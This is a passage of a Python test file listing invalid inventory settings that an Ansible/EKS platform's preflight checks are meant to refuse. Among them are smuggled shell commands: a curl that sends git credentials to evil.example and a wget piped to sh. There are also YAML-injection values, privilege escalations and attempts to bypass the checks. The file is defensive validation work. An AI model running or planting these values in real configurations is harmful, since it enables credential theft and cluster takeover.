    Case("type-workload-values-null", WRONG_TYPE, "workload values null (a mapping expected)",
         {"platform_workloads_overrides": {"api": {"values": None}}}, "platform_workloads_overrides.api.values=null is null"),
    # Unknown keys, with the closest known key suggested.
    Case("unknown-addon-enabeld", UNKNOWN_KEY, "add-on setting enabeld (typo of enabled)",
         {"addon_keda_enabeld": False},
         "addon_keda_enabeld: unknown setting, did you mean addon_keda_enabled?"),
    Case("unknown-addon-own-setting", UNKNOWN_KEY, "metrics-server setting replicsa (typo of replicas)",
         {"addon_metrics_server_replicsa": 3},
         "addon_metrics_server_replicsa: unknown setting, did you mean addon_metrics_server_replicas?"),
    Case("unknown-addon-own-nested-key", UNKNOWN_KEY, "metrics-server resources key limtis (typo of limits)",
         {"addon_metrics_server_resources": {"requests": {"cpu": "100m"}, "limtis": {"cpu": "1"}}},
         "addon_metrics_server_resources.limtis: unknown key, did you mean limits?"),
    Case("unknown-addon-own-through-overrides", UNKNOWN_KEY, "metrics-server replicas through platform_addons_overrides",
         {"platform_addons_overrides": {"metrics_server": {"replicas": 3}}},
         "platform_addons_overrides.metrics_server: metrics_server's settings are variables of their own"),
    Case("unknown-istio-rotues", UNKNOWN_KEY, "Istio traffic key rotues (typo of routes)",
         {"addon_istio_traffic": {**role_default("istio", "traffic"), "rotues": [{"subset": "stable", "weight": 100}]}},
         "addon_istio_traffic.rotues: unknown key, did you mean routes?"),
    Case("unknown-eks-addon-verison", UNKNOWN_KEY, "managed add-on key verison (typo of version)",
         {"platform_eks_addons_overrides": {"coredns": {"verison": "v1.13.2-eksbuild.1"}}},
         "platform_eks_addons_overrides.coredns.verison: unknown key, did you mean version?"),
    Case("unknown-irsa-sqs-queues", UNKNOWN_KEY, "IRSA role key sqs_queues (sqs_queue_names meant)",
         {"platform_irsa_roles_overrides": {"keda": {"sqs_queues": ["triptrip-task-queue"]}}},
         "platform_irsa_roles_overrides.keda.sqs_queues: unknown key, did you mean sqs_queue_names?"),
    Case("unknown-new-node-group-taint", UNKNOWN_KEY, "a new node group with taint (taints meant)",
         groups(batch={"instance_types": ["m5.xlarge"], "capacity_type": "ON_DEMAND",
                       "scaling": {"min_size": 0, "max_size": 2, "desired_size": 0},
                       "disk": {"size_gb": 100, "type": "gp3", "iops": 3000, "throughput": 125, "encrypted": True},
                       "taint": [{"key": "batch", "value": "true", "effect": "NoSchedule"}]}),
         "platform_node_groups_overrides.batch.taint: unknown key, did you mean taints?"),
    Case("unknown-argocd-credentials-user", UNKNOWN_KEY, "Argo CD repository credentials key user (username meant)",
         {"addon_argocd_repo_credentials": {"user": "ci", "password": "not-a-secret"}},
         "addon_argocd_repo_credentials.user: unknown key, did you mean username?"),
    # Names and labels that reach a manifest as YAML text.
    Case("name-istio-service-newline", INJECTION, "Istio traffic service with a newline and a key after it",
         {"addon_istio_traffic": {**role_default("istio", "traffic"), "service": "triptrip-api\nnamespace: kube-system"}},
         "addon_istio_traffic.service="),
    Case("name-subset-label-newline", INJECTION, "Istio subset label value with a newline and a key after it",
         {"addon_istio_traffic": {**role_default("istio", "traffic"), "subsets": [
             {"name": "stable", "labels": {"version": "stable\nextra: injected"}},
             {"name": "canary", "labels": {"version": "canary"}}]}},
         "addon_istio_traffic.subsets[0].labels.version="),
    Case("name-ingress-host-url", BAD_NAME, "ALB Ingress host written as a URL",
         {"addon_aws_load_balancer_controller_ingress": {**role_default("aws_load_balancer_controller", "ingress"),
                                                         "hosts": ["https://api.triptrip.com/"]}},
         "addon_aws_load_balancer_controller_ingress.hosts[0]="),
    Case("name-workload-release-upper", BAD_NAME, "workload release TripTrip-API (upper case)",
         {"platform_workloads_overrides": {"api": {"release": "TripTrip-API"}}}, 'platform_workloads.api.release="TripTrip-API"'),
    Case("name-rbac-group-space", BAD_NAME, "RBAC group 'triptrip: developers' (a space after the colon)",
         {"platform_rbac_groups": {**RBAC_GROUPS, "developers": "triptrip: developers"}},
         'platform_rbac_groups.developers="triptrip: developers"'),
    Case("name-priority-value-injection", INJECTION, "PriorityClass value with a newline and a key after it",
         {"platform_priority_classes": [{"name": "triptrip-platform-critical", "value": "1000000\npreemptionPolicy: Never",
                                         "description": "Platform add-ons."}]},
         "platform_priority_classes[0].value="),
]

ADMIN_POLICY = {"policy_arn": "arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy",
                "access_scope": {"type": "cluster"}}


def scaled_object(**change):
    objects = role_default("keda", "scaled_objects")
    objects[0].update(change)
    return {"addon_keda_scaled_objects": objects}


def traffic(**change):
    return {"addon_istio_traffic": {**role_default("istio", "traffic"), **change}}


def eks_addon(name, **configuration):
    return {"platform_eks_addons_overrides": {name: {"configuration": configuration}}}


# Issue #26: tried as a careless or hostile user would; each refused in preflight, naming the variable and the value.
CASES += [
    # --- YAML 1.1 -----------------------------------------------------------------------------------------------
    Case("yaml-name-trailing-newline", YAML_NUMBER, "cluster name from a | block (its final newline kept)",
         {"platform_cluster_name": "triptrip-local\n"}, "triptrip-local\\n"),
    Case("yaml-octal-retention", YAML_NUMBER, "log retention 0226 unquoted (YAML 1.1 reads the octal 150, a valid choice)",
         {"platform_eks_log_retention_days": Plain("0226")}, "platform_eks_log_retention_days", shows="0226 is read as 150"),
    Case("yaml-sexagesimal-retention", YAML_NUMBER, "log retention 1:30 unquoted (YAML 1.1 reads the base-60 90)",
         {"platform_eks_log_retention_days": Plain("1:30")}, "platform_eks_log_retention_days", shows="1:30 is read as 90"),
    Case("yaml-duplicate-key", YAML_NUMBER, "the log retention set twice in one file (YAML keeps the second)",
         {"platform_eks_log_retention_days": 90}, "platform_eks_log_retention_days", shows="is set twice",
         raw="platform_eks_log_retention_days: 30\n"),
    Case("yaml-namespace-trailing-newline", YAML_NUMBER, "a workload namespace from a | block",
         {"platform_workload_namespaces": ["triptrip-api\n", "triptrip-web", "triptrip-workers", "triptrip-ml",
                                           "triptrip-cache", "triptrip-db", "triptrip-batch"]}, "triptrip-api\\n"),
    # --- misspelt keys ------------------------------------------------------------------------------------------
    Case("misspelt-access-policies", MISSPELT, "acess_policies on the only admin entry (nobody could administer)",
         {"platform_eks_access_entries": [{"role_name": "triptrip-platform-admin", "acess_policies": [ADMIN_POLICY]}]},
         "acess_policies"),
    Case("misspelt-access-scope", MISSPELT, "access_scop on an entry's policy",
         {"platform_eks_access_entries": [{"role_name": "triptrip-platform-admin", "access_policies": [
             {"policy_arn": ADMIN_POLICY["policy_arn"], "access_scope": {"type": "cluster"}, "access_scop": {}}]}]},
         "access_scop"),
    Case("misspelt-storage-kms-key", MISSPELT, "kms_key on the StorageClass (volumes would use the default key)",
         {"platform_storage_class": {"name": "gp3-encrypted", "kms_key": "arn:aws:kms:ap-northeast-1:123456789012:key/x",
                                     "iops": "3000", "throughput": "125"}}, "kms_key"),
    Case("misspelt-eks-addon", MISSPELT, "the managed add-on vpc-cnii (a new add-on EKS does not have)",
         {"platform_eks_addons_overrides": {"vpc-cnii": {"version": "v1.21.1-eksbuild.3"}}}, "vpc-cnii",
         shows="did you mean vpc-cni?"),
    # --- impossible or dangerous combinations -------------------------------------------------------------------
    Case("combination-pod-identity-without-agent", COMBINATION, "EKS Pod Identity with the managed add-ons (its agent) off",
         {"platform_eks_addons_enabled": False}, "platform_aws_identity",
         shows="eks-pod-identity-agent"),
    Case("combination-quota-memory-milli", COMBINATION, "a memory quota of 20m (a fiftieth of a byte)",
         quotas("triptrip-api", requests__memory="20m"), "platform_resource_quotas.triptrip-api.requests.memory",
         shows='"20m"'),
    Case("combination-quota-cpu-mega", COMBINATION, "a CPU quota of 40M (forty million cores)",
         quotas("triptrip-api", limits__cpu="40M"), "platform_resource_quotas.triptrip-api.limits.cpu", shows='"40M"'),
    Case("combination-subnets-28", COMBINATION, "/28 private subnets for the node groups' maximum",
         cidrs("10.0.0.0/28", "10.0.0.16/28", "10.0.0.32/28"), "platform_private_subnets", shows="10.0.0.0/28"),
    Case("combination-iam-role-names", COMBINATION, "a cluster name whose IAM role names exceed 64 characters",
         {"platform_cluster_name": "triptrip-" + "x" * 50}, "platform_cluster_name", shows="x" * 50),
    Case("combination-istiod-min-max", COMBINATION, "istiod min_replicas 6 above max_replicas 3",
         {"addon_istio_pilot": {**role_default("istio", "pilot"), "replicas": 3, "min_replicas": 6, "max_replicas": 3}},
         "addon_istio_pilot", shows="min_replicas=6"),
    Case("combination-route-unknown-subset", COMBINATION, "a route to the subset canray (503 for 5 % of requests)",
         traffic(routes=[{"subset": "stable", "weight": 95}, {"subset": "canray", "weight": 5}]),
         "addon_istio_traffic.routes[1].subset", shows="'canray'"),
    Case("combination-canary-unknown-subset", COMBINATION, "the canary header routed to the subset beta",
         traffic(canary_subset="beta"), "addon_istio_traffic.canary_subset", shows="'beta'"),
    Case("combination-keda-trigger-type", COMBINATION, "a KEDA trigger of type aws-sqs (no such scaler)",
         scaled_object(triggers=[{"type": "aws-sqs", "sqs_queue": "triptrip-task-queue", "aws_auth": True,
                                  "metadata": {"queueLength": "10"}}]),
         "addon_keda_scaled_objects[0].triggers[0].type", shows="'aws-sqs'"),
    Case("combination-keda-min-above-max", COMBINATION, "a ScaledObject with min_replicas 60 above max_replicas 50",
         scaled_object(min_replicas=60), "addon_keda_scaled_objects[0]", shows="min_replicas=60"),
    Case("combination-spot-one-type", COMBINATION, "a SPOT group with one instance type",
         groups(spot={"instance_types": ["m5.xlarge"]}), "platform_node_groups.spot.instance_types",
         shows='["m5.xlarge"]'),
    Case("combination-gpu-without-taint", COMBINATION, "the gpu group without its nvidia.com/gpu taint",
         groups(gpu={"taints": []}), "platform_node_groups.gpu.taints"),
    Case("combination-gp2-with-iops", COMBINATION, "a gp2 disk keeping gp3's IOPS and throughput",
         groups(general={"disk": {"type": "gp2"}}), "platform_node_groups.general.disk", shows='"type": "gp2"'),
    Case("combination-node-role-no-policies", COMBINATION, "a node role with no policies (nodes cannot join)",
         {"platform_node_role_policies": []}, "platform_node_role_policies", shows="=[]"),
    # --- security policy the inventory could switch off or get around -------------------------------------------
    Case("security-admins-authenticated", SECURITY, "platform-admin bound to system:authenticated",
         {"platform_rbac_groups": {**RBAC_GROUPS, "platform_admins": "system:authenticated"}},
         "platform_rbac_groups.platform_admins", shows='"system:authenticated"'),
    Case("security-developers-masters", SECURITY, "developers bound to system:masters",
         {"platform_rbac_groups": {**RBAC_GROUPS, "developers": "system:masters"}},
         "platform_rbac_groups.developers", shows='"system:masters"'),
    Case("security-controller-administrator", SECURITY, "AdministratorAccess on the cluster autoscaler's role",
         {"platform_irsa_roles_overrides": {"cluster-autoscaler": {
             "managed_policies": ["arn:aws:iam::aws:policy/AdministratorAccess"]}}},
         "platform_irsa_roles.cluster-autoscaler.managed_policies", shows="AdministratorAccess"),
    Case("security-controller-iam-full", SECURITY, "IAMFullAccess on External Secrets' role",
         {"platform_irsa_roles_overrides": {"external-secrets": {
             "managed_policies": ["arn:aws:iam::aws:policy/IAMFullAccess"]}}},
         "platform_irsa_roles.external-secrets.managed_policies", shows="IAMFullAccess"),
    Case("security-pod-security-privileged", SECURITY, "Pod Security privileged on the workload namespaces",
         {"platform_pod_security_level": "privileged"}, "platform_pod_security_level", shows='"privileged"'),
    Case("security-pod-security-baseline", SECURITY, "Pod Security baseline on the workload namespaces",
         {"platform_pod_security_level": "baseline"}, "platform_pod_security_level", shows='"baseline"'),
    Case("security-workload-exception-privileged", SECURITY, "a privileged exception for triptrip-api",
         {"platform_pod_security_exceptions": {"triptrip-api": {"level": "privileged", "reason": "debugging"}}},
         "platform_pod_security_exceptions.triptrip-api.level", shows="privileged"),
    Case("security-cni-network-policy-off", SECURITY, "the VPC CNI's network policy enforcement off",
         eks_addon("vpc-cni", enableNetworkPolicy="false"),
         "platform_eks_addons.vpc-cni.configuration.enableNetworkPolicy", shows='"false"'),
    Case("security-render-dir-left-set", SECURITY, "platform_render_dir left set: site.yml would apply nothing",
         {"platform_render_dir": "/tmp/rendered"}, "platform_render_dir", shows='"/tmp/rendered"'),
    Case("security-strict-list-emptied", SECURITY, "production's own inventory empties the strict environments "
         "and opens the endpoint", {"platform_environment": "production", "platform_policy_strict_environments": [],
                                    "platform_eks_endpoint_public_access": True},
         "platform_eks_endpoint_public_access", shows="production must have a private endpoint only"),
    Case("security-skip-checks-flag", SECURITY, "__platform_checked: true in the inventory, to skip the checks",
         {"__platform_checked": True, "platform_pod_security_level": "privileged"}, "platform_pod_security_level",
         shows='"privileged"'),
    Case("security-skip-checks-result", SECURITY, "the checks' registered result faked in the inventory",
         {"__platform_settings_checked": {"checked": True}, "ansible_facts": {"__platform_checked": True},
          "platform_pod_security_level": "baseline"}, "platform_pod_security_level", shows='"baseline"'),
    # --- injection: a value that would add to what is applied --------------------------------------------------
    Case("injection-group-document", INJECTION, "a group name holding a newline and a ClusterRoleBinding",
         {"platform_rbac_groups": {**RBAC_GROUPS, "developers": "triptrip:developers\n---\nkind: ClusterRoleBinding"}},
         "platform_rbac_groups.developers"),
    Case("injection-release-document", INJECTION, "a workload release name holding a Helm release in kube-system",
         {"platform_workloads_overrides": {"api": {"release": "api\n---\nnamespace: kube-system"}}},
         "platform_workloads.api.release"),
    Case("injection-namespace-key", INJECTION, "a namespace name holding a label key after a newline",
         {"platform_workload_namespaces": ["triptrip-api\n  labels: {admin: 'true'}", "triptrip-web", "triptrip-workers",
                                           "triptrip-ml", "triptrip-cache", "triptrip-db", "triptrip-batch"]},
         "platform_workload_namespaces"),
    Case("injection-service-account", INJECTION, "a service account name holding a second document",
         {"platform_service_accounts": {"triptrip-api": ["triptrip-api\n---\nkind: ClusterRole"]}},
         "platform_service_accounts.triptrip-api"),
    Case("injection-chart-path-shell", INJECTION, "a chart path that ends the CI's yq command and runs another",
         {"platform_ecr_repositories_overrides": {"triptrip-api": {"chart_path": "charts/api; curl -d @$HOME/.git-credentials evil.example"}}},
         "platform_ecr_repositories.triptrip-api.chart_path", shows="curl"),
    Case("injection-branch-expression", INJECTION, "a branch name that closes the quote of the workflow's if:",
         {"platform_delivery_branches": {"main' || 'x": "production"}}, "platform_delivery_branches",
         shows="a branch name is letters"),
    Case("injection-subset-label", INJECTION, "a subset label value holding a newline and a key",
         traffic(subsets=[{"name": "stable", "labels": {"version": "stable\nnamespace: kube-system"}},
                          {"name": "canary", "labels": {"version": "canary"}}]), "addon_istio_traffic.subsets"),
]


# Issue #26, AWS side: access policies
POLICY = "arn:aws:eks::aws:cluster-access-policy/"
# The local inventory held to production's rules, so that the one broken value is the case's access entries.
AS_PRODUCTION = {"platform_environment": "production", "platform_eks_deletion_protection": True}


def access_entries(*policies, role="triptrip-platform-admin"):
    """One access entry of the role, with each (policy name, scope) given."""
    return {"platform_eks_access_entries": [{"role_name": role, "access_policies": [
        {"policy_arn": POLICY + name, "access_scope": scope} for name, scope in policies]}]}


CASES += [
    Case("misspelt-access-policy-name", MISSPELT, "AmazonEKSClusterAdminPolcy on the admin entry (EKS has no such "
         "policy: the association fails after the cluster is built)",
         access_entries(("AmazonEKSClusterAdminPolcy", {"type": "cluster"})),
         f'platform_eks_access_entries[0].access_policies[0].policy_arn="{POLICY}AmazonEKSClusterAdminPolcy"',
         shows="did you mean AmazonEKSClusterAdminPolicy?"),
    Case("misspelt-access-policy-case", MISSPELT, "AmazonEksViewPolicy (EKS's names are case-sensitive)",
         {"platform_eks_access_entries": [
             {"role_name": "triptrip-platform-admin", "access_policies": [
                 {"policy_arn": POLICY + "AmazonEKSClusterAdminPolicy", "access_scope": {"type": "cluster"}}]},
             {"role_name": "triptrip-auditors", "access_policies": [
                 {"policy_arn": POLICY + "AmazonEksViewPolicy", "access_scope": {"type": "cluster"}}]}]},
         f'platform_eks_access_entries[1].access_policies[0].policy_arn="{POLICY}AmazonEksViewPolicy"',
         shows="did you mean AmazonEKSViewPolicy?"),
    Case("misspelt-access-policy-plural", MISSPELT, "AmazonEKSEditPolicies for the developers' namespaces",
         access_entries(("AmazonEKSEditPolicies", {"type": "namespace", "namespaces": ["triptrip-api"]}),
                        role="triptrip-developers"),
         f'platform_eks_access_entries[0].access_policies[0].policy_arn="{POLICY}AmazonEKSEditPolicies"',
         shows="did you mean AmazonEKSEditPolicy?"),
    Case("combination-production-no-access-entries", COMBINATION, "production with no access entry (only the "
         "runner's own would let anyone in)", {**AS_PRODUCTION, "platform_eks_access_entries": []},
         "platform_eks_access_entries=[]",
         shows="production must keep at least one access entry with AmazonEKSClusterAdminPolicy at cluster scope"),
    Case("combination-production-admin-in-a-namespace", COMBINATION, "production's admin policy scoped to one "
         "namespace (nobody administers the cluster)",
         {**AS_PRODUCTION, **access_entries(("AmazonEKSClusterAdminPolicy",
                                             {"type": "namespace", "namespaces": ["triptrip-api"]}))},
         'platform_eks_access_entries=[{"role_name": "triptrip-platform-admin"',
         shows="production must keep at least one access entry with AmazonEKSClusterAdminPolicy at cluster scope"),
    Case("combination-production-view-only", COMBINATION, "production's only entry with the view policy",
         {**AS_PRODUCTION, **access_entries(("AmazonEKSViewPolicy", {"type": "cluster"}))},
         f'platform_eks_access_entries=[{{"role_name": "triptrip-platform-admin", "access_policies": [{{"policy_arn": '
         f'"{POLICY}AmazonEKSViewPolicy"',
         shows="production must keep at least one access entry with AmazonEKSClusterAdminPolicy at cluster scope"),
]


def deep_merge(base, change):
    """change over base, mappings merged recursively, everything else replaced (as Ansible's combine(recursive))."""
    if not (isinstance(base, dict) and isinstance(change, dict)):
        return copy.deepcopy(change)
    merged = copy.deepcopy(base)
    for key, value in change.items():
        merged[key] = deep_merge(merged[key], value) if key in merged else copy.deepcopy(value)
    return merged


def write_inventory(root: Path, target: Path, cases: list[Case], control: str = "", live: bool = False) -> Path:
    """The local inventory copied to target, one host per case (and a control host, unbroken, if named). AWS is a
    closed port and the kubeconfig a missing file, unless `live`: then a case that got through would reach the
    local platform the environment names (tests/integration/test_reliability.py reads its audit log)."""
    shutil.copytree(root / "inventories" / "local", target)
    main = target / "group_vars/all/main.yml"
    local = yaml.safe_load(main.read_text())
    if not live:
        local["platform_aws_env"] = DEAD_AWS
        local["platform_kubeconfig"] = str(target / "absent" / "kubeconfig")
        main.write_text(yaml.safe_dump(local, sort_keys=False))
    host = {"ansible_connection": "local", "ansible_python_interpreter": "{{ ansible_playbook_python }}"}
    names = [case.id for case in cases] + ([control] if control else [])
    (target / "hosts.yml").write_text(yaml.safe_dump({"all": {"children": {"clusters": {"hosts": {
        name: dict(host) for name in names}}}}}, sort_keys=False))
    (target / "host_vars").mkdir()
    for case in cases:
        settings = {key: deep_merge(local[key], value) if key in local else value
                    for key, value in case.settings.items()}
        (target / "host_vars" / f"{case.id}.yml").write_text(
            yaml.dump(settings, Dumper=CaseDumper, sort_keys=False) + case.raw)
    return target


# Issue #26: chart values we own, against the charts' values.schema.json
def chart_values(workload: str, values: dict) -> dict:
    """An inventory's values for one workload's chart, merged over the chart's values-production.yaml (local's)."""
    return {"platform_workloads_overrides": {workload: {"values": values}}}


CASES += [
    Case("misspelt-chart-api-replica-count", MISSPELT, "the API's replicaCont 6 (the chart's default would run)",
         chart_values("api", {"replicaCont": 6}), "platform_workloads.api.values.replicaCont",
         shows="=6: unknown key, did you mean replicaCount?"),
    Case("misspelt-chart-api-autoscaling-max", MISSPELT, "the API's autoscaling.maxReplica 50 (the HPA keeps 100)",
         chart_values("api", {"autoscaling": {"maxReplica": 50}}),
         "platform_workloads.api.values.autoscaling.maxReplica",
         shows="=50: unknown key, did you mean maxReplicas?"),
    Case("misspelt-chart-redis-persistence-size", MISSPELT, "Redis persistence.sise 100Gi (the claims would stay 50Gi)",
         chart_values("redis", {"persistence": {"sise": "100Gi"}}), "platform_workloads.redis.values.persistence.sise",
         shows='="100Gi": unknown key, did you mean size?'),
    Case("misspelt-chart-workers-budget", MISSPELT, "the workers' podDisruptionBudget.maxUnavailble, three levels down",
         chart_values("workers", {"queueWorker": {"podDisruptionBudget": {"maxUnavailble": "50%"}}}),
         "platform_workloads.workers.values.queueWorker.podDisruptionBudget.maxUnavailble",
         shows="did you mean maxUnavailable?"),
    Case("yaml-chart-api-image-tag", YAML_NUMBER, "the API's image tag 1.10 unquoted (YAML 1.1 reads the number 1.1)",
         chart_values("api", {"image": {"tag": Plain("1.10")}}), "platform_workloads.api.values.image.tag",
         shows="=1.1: is a number, but must be a string"),
    Case("yaml-chart-redis-appendonly-yes", YAML_NUMBER, "redis.conf appendonly yes unquoted (a boolean to YAML 1.1)",
         chart_values("redis", {"config": {"appendonly": Plain("yes")}}),
         "platform_workloads.redis.values.config.appendonly",
         shows="=true: is true or false"),
    Case("yaml-chart-workers-toleration-true", YAML_NUMBER, "the spot toleration's value true unquoted",
         chart_values("workers", {"queueWorker": {"tolerations": [
             {"key": "spot", "operator": "Equal", "value": Plain("true"), "effect": "NoSchedule"}]}}),
         "platform_workloads.workers.values.queueWorker.tolerations[0].value", shows="=true: is true or false"),
    Case("combination-chart-api-hpa-min-above-max", COMBINATION, "the API's HPA maxReplicas 3 below production's min 5",
         chart_values("api", {"autoscaling": {"maxReplicas": 3}}), "platform_workloads.api.values",
         shows="autoscaling.minReplicas=5 is above autoscaling.maxReplicas=3"),
    Case("combination-chart-api-budget-blocks-drains", COMBINATION, "the API's budget keeping all of its 2 fixed pods",
         chart_values("api", {"autoscaling": {"enabled": False}, "replicaCount": 2,
                              "podDisruptionBudget": {"minAvailable": 2}}),
         "platform_workloads.api.values", shows="podDisruptionBudget.minAvailable=2 is not below replicaCount=2"),
    Case("combination-chart-redis-budget-above-replicas", COMBINATION, "Redis maxUnavailable 2, one replica a shard",
         chart_values("redis", {"podDisruptionBudget": {"maxUnavailable": 2}}), "platform_workloads.redis.values",
         shows="podDisruptionBudget.maxUnavailable=2 is above clusterReplicas=1"),
    Case("combination-chart-redis-members-not-shards", COMBINATION, "five Redis members (not whole shards of two)",
         chart_values("redis", {"replicas": 5}), "platform_workloads.redis.values",
         shows="replicas=5 is not a multiple of 1 + clusterReplicas (2)"),
    Case("injection-chart-redis-config-line", INJECTION, "a redis.conf value holding a line break and a directive",
         chart_values("redis", {"config": {"maxmemory": "3gb\nenable-debug-command yes"}}),
         "platform_workloads.redis.values.config.maxmemory", shows="must be a string or a whole number on one line"),
    Case("injection-chart-api-database-host", INJECTION, "the wait-for-db host holding a shell command",
         chart_values("api", {"initContainers": {"waitForDb": {"host": "postgres; wget -qO- http://x.example | sh"}}}),
         "platform_workloads.api.values.initContainers.waitForDb.host", shows="must be a DNS name"),
]
